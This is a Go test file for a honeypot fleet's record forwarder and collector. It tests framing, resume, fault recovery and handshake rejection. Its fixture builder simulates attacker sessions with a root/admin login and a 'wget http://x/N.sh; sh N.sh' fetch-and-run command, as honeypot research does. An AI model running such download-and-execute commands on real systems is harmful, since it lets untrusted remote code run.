package fleet

import (
	"bytes"
	"errors"
	"fmt"
	"sync/atomic"
	"testing"
	"time"

	"honeynet/internal/session"
	"honeynet/internal/store"
)

// mkRec builds a deterministic record; i varies month, content, and
// protocol the same way the store's own tests do.
func mkRec(i int) *session.Record {
	start := time.Date(2021, time.Month(5+i%3), 1, 0, 0, 0, 0, time.UTC).
		Add(time.Duration(i) * 53 * time.Second)
	r := &session.Record{
		ID:         uint64(i),
		Start:      start,
		End:        start.Add(30 * time.Second),
		HoneypotID: "hp-1",
		ClientIP:   fmt.Sprintf("203.0.%d.%d", i%3, i%250),
		ClientPort: 40000 + i,
		Protocol:   session.ProtoSSH,
	}
	if i%4 == 3 {
		r.Logins = []session.LoginAttempt{{Username: "root", Password: "admin", Success: true}}
		r.Commands = []session.Command{{Raw: fmt.Sprintf("wget http://x/%d.sh; sh %d.sh", i, i), Known: true}}
		r.Downloads = []session.Download{{URI: fmt.Sprintf("http://x/%d.sh", i), Hash: fmt.Sprintf("%064x", i)}}
		r.StateChanged = true
	}
	if i%7 == 0 {
		r.Protocol = session.ProtoTelnet
	}
	return r
}

// fillStore opens a fresh store and appends n deterministic records.
func fillStore(t *testing.T, n int) *store.Store {
	t.Helper()
	st, err := store.Open(t.TempDir(), store.Options{})
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i < n; i++ {
		if err := st.Append(mkRec(i)); err != nil {
			t.Fatal(err)
		}
	}
	if err := st.Flush(); err != nil {
		t.Fatal(err)
	}
	return st
}

// lines returns every canonical record line in a store, in seq order.
func lines(t *testing.T, st *store.Store) [][]byte {
	t.Helper()
	var out [][]byte
	cur := st.ScanSeq(0)
	defer cur.Close()
	for cur.Next() {
		out = append(out, append([]byte(nil), cur.Line()...))
	}
	if err := cur.Err(); err != nil {
		t.Fatal(err)
	}
	return out
}

// assertShardEquals checks the collector's shard for node holds exactly
// the edge store's records, byte for byte, in the same order.
func assertShardEquals(t *testing.T, srv *Server, node string, edge *store.Store) {
	t.Helper()
	assertShardLines(t, srv, node, lines(t, edge))
}

func TestFleetOptionsValidate(t *testing.T) {
	// NewForwarder rejects invalid node ids up front.
	st, err := store.Open(t.TempDir(), store.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	if _, err := NewForwarder("127.0.0.1:1", "bad/node", st, Options{}); err == nil {
		t.Error("NewForwarder accepted invalid node id")
	}
}

// TestWireRoundTrip pushes every frame shape through the encoder and
// back.
func TestWireRoundTrip(t *testing.T) {
	var buf bytes.Buffer
	if err := writeJSONFrame(&buf, frameHello, helloMsg{V: 1, Node: "edge-1"}); err != nil {
		t.Fatal(err)
	}
	body := appendBatchRecord(nil, []byte(`{"id":1}`))
	body = appendBatchRecord(body, []byte(`{"id":2}`))
	head := batchHeader(nil, 42, 2)
	if err := writeFrame(&buf, frameBatch, head, body); err != nil {
		t.Fatal(err)
	}

	var rbuf []byte
	typ, payload, err := readFrame(&buf, maxFrame, &rbuf)
	if err != nil || typ != frameHello {
		t.Fatalf("frame 1: typ %d err %v", typ, err)
	}
	if string(payload) != `{"v":1,"node":"edge-1"}` {
		t.Fatalf("hello payload %q", payload)
	}
	typ, payload, err = readFrame(&buf, maxFrame, &rbuf)
	if err != nil || typ != frameBatch {
		t.Fatalf("frame 2: typ %d err %v", typ, err)
	}
	base, count, rest, err := parseBatch(payload)
	if err != nil || base != 42 || count != 2 {
		t.Fatalf("parseBatch: base %d count %d err %v", base, count, err)
	}
	for i, want := range []string{`{"id":1}`, `{"id":2}`} {
		var line []byte
		if line, rest, err = nextBatchRecord(rest); err != nil || string(line) != want {
			t.Fatalf("record %d: %q err %v", i, line, err)
		}
	}
	if len(rest) != 0 {
		t.Fatalf("trailing batch bytes: %q", rest)
	}

	// Corrupt inputs are rejected, not crashed on.
	if _, _, _, err := parseBatch(nil); err == nil {
		t.Error("parseBatch accepted empty payload")
	}
	if _, _, err := nextBatchRecord([]byte{0x09, 'x'}); err == nil {
		t.Error("nextBatchRecord accepted truncated record")
	}
	bad := bytes.NewReader([]byte{0xff, 0xff, 0xff, 0xff, 0x01})
	if _, _, err := readFrame(bad, maxFrame, &rbuf); err == nil {
		t.Error("readFrame accepted oversized length prefix")
	}
}

// TestForwardEndToEnd streams a store with history (records appended
// before the forwarder existed) plus live appends into a collector and
// checks the shard is byte-identical, then restarts forwarding to
// confirm resume produces no duplicates.
func TestForwardEndToEnd(t *testing.T) {
	srv, err := NewServer(t.TempDir(), ServerOptions{SyncAck: true})
	if err != nil {
		t.Fatal(err)
	}
	defer srv.Close()
	addr, err := srv.Listen("127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}

	st, err := store.Open(t.TempDir(), store.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	for i := 0; i < 100; i++ { // history before the forwarder starts
		if err := st.Append(mkRec(i)); err != nil {
			t.Fatal(err)
		}
	}

	fwd, err := NewForwarder(addr.String(), "edge-1", st, Options{})
	if err != nil {
		t.Fatal(err)
	}
	for i := 100; i < 200; i++ { // live appends race the forwarder
		if err := st.Append(mkRec(i)); err != nil {
			t.Fatal(err)
		}
	}
	if !fwd.WaitCaughtUp(10 * time.Second) {
		t.Fatalf("forwarder never caught up: acked %d of %d", fwd.Acked(), st.NextSeq())
	}
	if err := fwd.Close(); err != nil {
		t.Fatal(err)
	}
	if n := srv.Len(); n != 200 {
		t.Fatalf("collector has %d records, want 200", n)
	}
	assertShardEquals(t, srv, "edge-1", st)

	// Restart forwarding against the same store: resume must redeliver
	// nothing the collector already has.
	for i := 200; i < 250; i++ {
		if err := st.Append(mkRec(i)); err != nil {
			t.Fatal(err)
		}
	}
	fwd2, err := NewForwarder(addr.String(), "edge-1", st, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if !fwd2.WaitCaughtUp(10 * time.Second) {
		t.Fatal("restarted forwarder never caught up")
	}
	if err := fwd2.Close(); err != nil {
		t.Fatal(err)
	}
	if n := srv.Len(); n != 250 {
		t.Fatalf("collector has %d records after resume, want 250", n)
	}
	if d := fwd2.redelivered.Load(); d != 0 {
		t.Fatalf("clean resume redelivered %d records", d)
	}
	assertShardEquals(t, srv, "edge-1", st)
}

// TestForwardReconnectResume injects connection faults on every few
// sends and receives; delivery must still complete exactly once.
func TestForwardReconnectResume(t *testing.T) {
	srv, err := NewServer(t.TempDir(), ServerOptions{})
	if err != nil {
		t.Fatal(err)
	}
	defer srv.Close()
	addr, err := srv.Listen("127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}

	st, err := store.Open(t.TempDir(), store.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()

	var ops atomic.Int64
	fwd, err := NewForwarder(addr.String(), "edge-1", st, Options{tuning: tuning{
		batch:    16,
		retryMin: time.Millisecond,
		retryMax: 10 * time.Millisecond,
		fault: func(op string) error {
			if ops.Add(1)%23 == 0 {
				return errors.New("injected fault")
			}
			return nil
		},
	}})
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 500; i++ {
		if err := st.Append(mkRec(i)); err != nil {
			t.Fatal(err)
		}
	}
	if !fwd.WaitCaughtUp(30 * time.Second) {
		t.Fatalf("never caught up under faults: acked %d of %d", fwd.Acked(), st.NextSeq())
	}
	if fwd.reconnects.Load() == 0 {
		t.Error("fault injection never forced a reconnect")
	}
	if err := fwd.Close(); err != nil {
		t.Fatal(err)
	}
	if n := srv.Len(); n != 500 {
		t.Fatalf("collector has %d records, want 500", n)
	}
	assertShardEquals(t, srv, "edge-1", st)
}

// TestServerRejects checks the handshake turns bad hellos into error
// frames, not shards.
func TestServerRejects(t *testing.T) {
	srv, err := NewServer(t.TempDir(), ServerOptions{})
	if err != nil {
		t.Fatal(err)
	}
	defer srv.Close()
	addr, err := srv.Listen("127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	for _, hello := range []helloMsg{
		{V: 99, Node: "edge-1"},  // wrong version
		{V: 1, Node: "bad/node"}, // invalid node id
		{V: 1, Node: ""},         // empty node id
	} {
		c := dialRaw(t, addr.String())
		if err := writeJSONFrame(c, frameHello, hello); err != nil {
			t.Fatal(err)
		}
		var buf []byte
		typ, _, err := readFrame(c, maxFrame, &buf)
		if err != nil {
			t.Fatalf("hello %+v: %v", hello, err)
		}
		if typ != frameError {
			t.Errorf("hello %+v: got frame type %d, want error", hello, typ)
		}
		c.Close()
	}
	if n := srv.Nodes(); n != 0 {
		t.Fatalf("rejected hellos created %d shards", n)
	}
}

// TestCollectorRestartResumesCursor kills a collector (hard close),
// reopens it over the same directory, and checks the advertised cursor
// picks up from the shard's durable record count.
func TestCollectorRestartResumesCursor(t *testing.T) {
	dir := t.TempDir()
	srv, err := NewServer(dir, ServerOptions{SyncAck: true})
	if err != nil {
		t.Fatal(err)
	}
	addr, err := srv.Listen("127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	st, err := store.Open(t.TempDir(), store.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	for i := 0; i < 120; i++ {
		if err := st.Append(mkRec(i)); err != nil {
			t.Fatal(err)
		}
	}
	fwd, err := NewForwarder(addr.String(), "edge-1", st, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if !fwd.WaitCaughtUp(10 * time.Second) {
		t.Fatal("never caught up")
	}
	fwd.Close()
	srv.Close()

	srv2, err := NewServer(dir, ServerOptions{SyncAck: true})
	if err != nil {
		t.Fatal(err)
	}
	defer srv2.Close()
	addr2, err := srv2.Listen("127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	c := dialRaw(t, addr2.String())
	defer c.Close()
	if err := writeJSONFrame(c, frameHello, helloMsg{V: ProtocolVersion, Node: "edge-1"}); err != nil {
		t.Fatal(err)
	}
	var buf []byte
	typ, payload, err := readFrame(c, maxFrame, &buf)
	if err != nil {
		t.Fatal(err)
	}
	next, err := parseCursorFrame(typ, payload, frameHelloAck)
	if err != nil {
		t.Fatal(err)
	}
	if next != 120 {
		t.Fatalf("restarted collector advertises cursor %d, want 120", next)
	}
}

// TestIdleEdgeRecordLeavesAtOnce: with the batch spacing at an hour, a
// record appended to an idle, connected forwarder still reaches the
// collector at once, since the spacing counts from the previous batch
// and there is none; a second record appended just after it waits out
// the spacing.
func TestIdleEdgeRecordLeavesAtOnce(t *testing.T) {
	srv, err := NewServer(t.TempDir(), ServerOptions{SyncAck: true})
	if err != nil {
		t.Fatal(err)
	}
	defer srv.Close()
	addr, err := srv.Listen("127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	st, err := store.Open(t.TempDir(), store.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	fwd, err := NewForwarder(addr.String(), "edge-1", st, Options{tuning: tuning{spacing: time.Hour}})
	if err != nil {
		t.Fatal(err)
	}
	defer fwd.Close()
	waitFor := func(what string, timeout time.Duration, cond func() bool) {
		t.Helper()
		deadline := time.Now().Add(timeout)
		for !cond() {
			if time.Now().After(deadline) {
				t.Fatalf("%s not within %v", what, timeout)
			}
			time.Sleep(time.Millisecond)
		}
	}
	waitFor("forwarder connected", 10*time.Second, fwd.Connected)

	if err := st.Append(mkRec(0)); err != nil {
		t.Fatal(err)
	}
	waitFor("the idle edge's record at the collector", 5*time.Second, func() bool { return srv.Len() == 1 })
	if err := st.Append(mkRec(1)); err != nil {
		t.Fatal(err)
	}
	time.Sleep(200 * time.Millisecond)
	if n := srv.Len(); n != 1 {
		t.Fatalf("the collector holds %d records 200ms after a second append, want 1: the second batch left inside the spacing", n)
	}
}
